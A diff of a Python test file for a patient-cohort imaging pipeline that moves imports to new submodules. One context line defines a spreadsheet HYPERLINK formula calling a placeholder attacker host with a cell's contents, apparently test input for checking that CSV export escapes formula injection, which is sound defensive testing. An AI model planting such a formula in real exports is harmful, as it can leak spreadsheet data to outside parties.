@@ -10,10 +10,11 @@ from pathlib import Path
 
 import pytest
 
-from pipeline.config import load_config
-from pipeline.outputs import csv_cell, patient_folder_name, study_dir, write_cohort_csv, write_errors_csv
-from pipeline.records import indeterminate_records
-from pipeline.types import ErrorRecord, StudyRecord
+from pipeline.core.config import load_config
+from pipeline.core.files import csv_cell
+from pipeline.core.records import ErrorRecord, StudyRecord
+from pipeline.longitudinal.indeterminate import indeterminate_records
+from pipeline.outputs.contract import patient_folder_name, study_dir, write_cohort_csv, write_errors_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
